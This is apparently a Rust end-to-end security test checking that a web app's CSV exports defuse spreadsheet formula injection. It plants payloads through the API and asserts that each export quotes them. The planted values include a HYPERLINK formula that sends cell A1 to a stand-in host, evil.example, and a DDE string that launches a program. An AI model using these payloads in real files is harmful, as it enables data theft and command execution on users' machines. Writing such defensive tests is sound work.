//! Findings of the security review, each through the real interface (docs/security.md lists
//! them with their defences).

use e2e::{get_ok, spawn_app, status_json, TestApp};
use serde_json::json;

/// A formula that sends the sheet's first cell away when clicked.
const EVIL_NAME: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";

/// The cells of a CSV answer (header row included).
async fn csv_cells(app: &TestApp, cookie: &str, path: &str) -> Vec<Vec<String>> {
    let r = app
        .http
        .get(app.url(path))
        .header("cookie", cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{path}");
    assert_eq!(
        r.headers()["content-type"],
        "text/csv; charset=utf-8",
        "{path}"
    );
    let text = r.text().await.unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn csv_exports_never_hold_a_live_formula_and_figures_stay_figures() {
    let app = spawn_app().await;
    let today = chrono::Utc::now().date_naive();
    jobs::seed::seed_bulk(app.db(), app.tenant.company_id.into(), 3, 30, today, 2)
        .await
        .unwrap();
    let list = get_ok(&app, "/api/v1/facilities").await;
    let id = list["facilities"][0]["id"].as_str().unwrap().to_owned();
    // The name is set through an API key, as an integrator (or a CRM pull) could.
    let (s, body) = status_json(
        app.put(
            &format!("/api/v1/facilities/{id}"),
            &json!({ "name": EVIL_NAME }),
        )
        .await,
    )
    .await;
    assert_eq!(s, 200, "{body}");
    let (s, body) = status_json(
        app.post(
            &format!("/api/v1/facilities/{id}/competitor-rates"),
            &json!({ "competitor_rates": [
                { "competitor": "@SUM(A1:A9)", "size": "10x10", "rate": 120, "promo": "-1+1" },
                { "competitor": "+cmd|' /C calc'!A0", "size": "5x5", "rate": 60 },
            ]}),
        )
        .await,
    )
    .await;
    assert_eq!(s, 201, "{body}");
    get_ok(&app, &format!("/api/v1/facilities/{id}/recommendations")).await;
    app.run_jobs().await;

    let cookie = app.session_cookie().await;
    let exports = [
        ("/app/portfolio?csv=portfolio-facilities", Some(EVIL_NAME)),
        ("/app/analytics/revpas?csv=revpas-ranking", Some(EVIL_NAME)),
        (
            "/app/analytics/lease-up?csv=lease-up-facilities",
            Some(EVIL_NAME),
        ),
        ("/app/analytics/ecri?csv=ecri-facilities", None),
        ("/app/analytics/leads?csv=lead-channels", None),
        (
            &format!("/app/facilities/{id}?csv=competitor-rates"),
            Some("@SUM(A1:A9)"),
        ),
        (&format!("/app/facilities/{id}?csv=recommendations"), None),
        (&format!("/app/facilities/{id}?csv=factors"), None),
        (&format!("/app/facilities/{id}?csv=guardrails"), None),
    ];
    let mut negative_figures = 0;
    for (path, planted) in exports {
        let cells = csv_cells(&app, &cookie, path).await;
        assert!(cells.len() > 1, "{path} has rows");
        for cell in cells.iter().flatten() {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r')),
                "{path}: a live formula cell {cell:?}"
            );
            if first == Some('-') {
                assert!(
                    cell.trim_start_matches('-')
                        .trim_start_matches('$')
                        .trim_end_matches('%')
                        .replace(',', "")
                        .parse::<f64>()
                        .is_ok(),
                    "{path}: {cell:?} starts with '-' and is not a figure"
                );
                negative_figures += 1;
            }
        }
        if let Some(planted) = planted {
            let quoted = format!("'{planted}");
            assert!(
                cells.iter().flatten().any(|c| *c == quoted),
                "{path} shows {planted:?} as text ({quoted:?}): {cells:?}"
            );
        }
    }
    // The guardrails and factors tables hold signed figures: they stayed numbers.
    assert!(negative_figures > 0, "some figure was negative and kept");
}
